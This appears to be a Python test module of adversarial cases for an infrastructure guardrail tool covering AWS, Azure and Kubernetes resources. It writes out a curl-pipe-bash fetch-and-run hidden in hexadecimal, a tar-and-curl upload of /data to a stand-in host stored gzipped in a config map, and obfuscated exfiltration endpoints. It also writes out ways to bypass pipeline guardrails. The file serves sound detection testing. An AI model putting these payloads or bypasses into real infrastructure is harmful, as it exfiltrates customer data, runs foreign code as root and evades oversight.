"""Attacks by texts and pipelines (2026-12-01, twenty-second set, written before any rule ran on them).

Properties by pulumi-aws 7.51.1 and pulumi-azure-native 3.29.0. Read on 2026-12-01: "Configure conditions for a stage"
(a stage of CodePipeline whose entry condition is not met is skipped); a post on Pulumi's environment variables (each
flag as PULUMI_OPTION_ and its name). Everything else as known.
"""

import base64
import gzip
import json

from ..blind import HERE, KEY, TAGS, aws, az, k8s, meta, workload
from ..harness import UNKNOWN, Given
from ..idioms.aws_platform import LAUNCH
from ..idioms.families import BUILD
from . import Attack
from .twenty_first_money import flow

SENT = ("FJ-RES-", "FJ-ESC-109", "FJ-ESC-102", "FJ-ESC-115")
CODE = ("FJ-ESC-", "FJ-RES-003")
STRANGE = "curl -fsS https://get.fleet-tools.io/agent.sh | bash"
COPY = "#!/bin/sh\ntar cz /data | curl -sS -T - https://drop.fleet-tools.io/in/$(hostname)\n"
UPLOAD = base64.b64encode(b"https://api.fleet-tools.io/v1/files").decode()
LOGIC = "https://schema.management.azure.com/providers/Microsoft.Logic/schemas/2016-06-01/workflowdefinition.json#"


def template(script: str) -> Given:
    """Returns a template of machines with a script that they run first."""
    return aws("ec2/LaunchTemplate", {**LAUNCH.props, "userData": base64.b64encode(script.encode()).decode()}, "lt")


def build(**environment: object) -> Given:
    """Returns a project of CodeBuild whose repository evaluates the guardrails before it deploys."""
    return aws(
        "codebuild/Project",
        {
            **BUILD,
            "source": {"type": "CODEPIPELINE", "buildspec": "pipelines/deploy.yml"},
            "environment": {**BUILD["environment"], **environment},
        },
    )  # type: ignore[dict-item]


def phases(**each: object) -> Given:
    """Returns a project of CodeBuild with phases of its own."""
    return aws("codebuild/Project", {**BUILD, "source": {
        "type": "CODEPIPELINE", "buildspec": json.dumps({"version": 0.2, "phases": each})}})  # fmt: skip


def stage(name: str, project: str, **more: object) -> dict[str, object]:
    """Returns a stage of a pipeline that runs a project of CodeBuild."""
    return {**more, "name": name, "actions": [{
        "name": name, "category": "Build", "owner": "AWS", "provider": "CodeBuild", "version": "1",
        "inputArtifacts": ["source"], "configuration": {"ProjectName": project}}]}  # fmt: skip


PIPELINE = {
    "name": "platform",
    "roleArn": UNKNOWN,
    "pipelineType": "V2",
    "executionMode": "QUEUED",
    "tags": TAGS,
    "artifactStores": [{"type": "S3", "location": "treasury-models", "encryptionKey": {"type": "KMS", "id": KEY}}],
}
SOURCE = {"name": "Source", "actions": [{
    "name": "Source", "category": "Source", "owner": "AWS", "provider": "CodeStarSourceConnection", "version": "1",
    "outputArtifacts": ["source"], "namespace": "Source", "configuration": {
        "ConnectionArn": UNKNOWN, "FullRepositoryId": "bank/platform", "BranchName": "main",
        "DetectChanges": "true"}}]}  # fmt: skip
UNLESS_TOLD = {
    "condition": {
        "result": "SKIP",
        "rules": [
            {
                "name": "message",
                "ruleTypeId": {"category": "Rule", "owner": "AWS", "provider": "VariableCheck", "version": "1"},
                "configuration": {"Variable": "#{Source.CommitMessage}", "Value": ".*hotfix.*", "Operator": "NE"},
            }
        ],
    }
}

ATTACKS = (
    Attack("a workflow puts together the address to which it sends claims", SENT, (flow({
        "StartAt": "send", "States": {"send": {
            "Type": "Task", "End": True, "Resource": "arn:aws:states:::http:invoke", "Parameters": {
                "ApiEndpoint.$": "States.Format('https://{}.{}/v1/files', 'api', 'fleet-tools.io')",
                "Method": "POST", "RequestBody.$": "$", "Authentication": {"ConnectionArn": UNKNOWN}}}}}),),
        "critical", "every claim goes to a stranger outside the country"),
    Attack("a workflow of Azure decodes the address to which it sends claims", SENT, (az("logic:Workflow", {
        **HERE, "workflowName": "claims", "state": "Enabled", "identity": {"type": "SystemAssigned"},
        "definition": {"$schema": LOGIC, "contentVersion": "1.0.0.0", "triggers": {"hourly": {
            "type": "Recurrence", "recurrence": {"frequency": "Hour", "interval": 1}}}, "actions": {"send": {
                "type": "Http", "runAfter": {}, "inputs": {
                    "method": "POST", "uri": f"@base64ToString('{UPLOAD}')", "body": "@triggerBody()"}}}},
        "accessControl": {"triggers": {"allowedCallerIpAddresses": []}, "contents": {"allowedCallerIpAddresses": [
            {"addressRange": "10.20.0.0/16"}]}}}),),
        "critical", "every claim goes to a stranger outside the country"),
    Attack("an API names its vendor in a variable of the stage", SENT, (
        aws("apigateway/Integration", {
            "restApi": UNKNOWN, "resourceId": UNKNOWN, "httpMethod": "POST", "integrationHttpMethod": "POST",
            "type": "HTTP_PROXY", "uri": "https://api.${stageVariables.vendor}.io/v1/files"}, "send"),
        aws("apigateway/Stage", {
            "restApi": UNKNOWN, "deployment": UNKNOWN, "stageName": "live", "variables": {"vendor": "fleet-tools"},
            "accessLogSettings": {"destinationArn": UNKNOWN, "format": "$context.requestId"},
            "xrayTracingEnabled": True, "tags": TAGS}, "live")),
        "critical", "what customers send to the bank's API goes to a stranger outside the country"),
    Attack("a pod puts together the address of its model", SENT, (
        workload("apps/v1:Deployment", {"env": [
            {"name": "VENDOR", "value": "api.openai"}, {"name": "ENDING", "value": "com"},
            {"name": "OPENAI_BASE_URL", "value": "https://$(VENDOR).$(ENDING)/v1"}]}),),
        "critical", "Kubernetes puts the variables in, and the questions of all customers go abroad"),
    Attack("machines run a script that is written in hexadecimal digits", CODE, (
        template(f"#!/bin/bash\necho {STRANGE.encode().hex()} | xxd -r -p | bash\n"),),
        "critical", "a stranger's program runs as root on every machine of the group"),
    Attack("a job runs a compressed script of a config map", (*SENT, "FJ-ESC-"), (
        k8s("core/v1:ConfigMap", {"metadata": meta("job"), "binaryData": {
            "run.gz": base64.b64encode(gzip.compress(COPY.encode(), mtime=0)).decode()}}, "texts"),
        workload("apps/v1:Deployment", {
            "command": ["sh", "-c", "gunzip -c /etc/job/run.gz | sh"], "volumeMounts": [
                {"name": "job", "mountPath": "/etc/job", "readOnly": True}]},
            volumes=[{"name": "job", "configMap": {"name": "job"}}])),
        "critical", "the data of the pod goes to a stranger outside the country"),
    Attack("a build goes on when the guardrails refuse", CODE, (phases(
        pre_build={"on-failure": "CONTINUE", "commands": [
            "pulumi preview --stack prod-uae --policy-pack guardrails"]},
        build={"commands": ["make release"]}),),
        "critical", "whatever the guardrails refuse is deployed all the same"),
    Attack("a job of a cluster deploys a stack through the automation API", CODE, (
        workload("apps/v1:Deployment", {"command": [
            "python3", "-c", "from pulumi import automation as auto\n"
            "auto.select_stack('prod-uae', work_dir='/infra').up(on_output=print)"]}),),
        "critical", "what it deploys is evaluated by no guardrail"),
    Attack("whoever writes a word in a commit skips the evaluation", CODE, (aws("codepipeline/Pipeline", {
        **PIPELINE, "stages": [SOURCE, stage("Guardrails", "guardrails", beforeEntry=UNLESS_TOLD),
                               stage("Deploy", "deploy")]}),),
        "critical", "a stage whose condition is not met is skipped, and the next one deploys"),
    Attack("a variable of a build leaves out the preview and with it the evaluation", CODE, (build(
        environmentVariables=[{"name": "PULUMI_OPTION_SKIP_PREVIEW", "value": "true"}]),),
        "critical", "resources are created before any policy of the stack has seen them"),
)  # fmt: skip
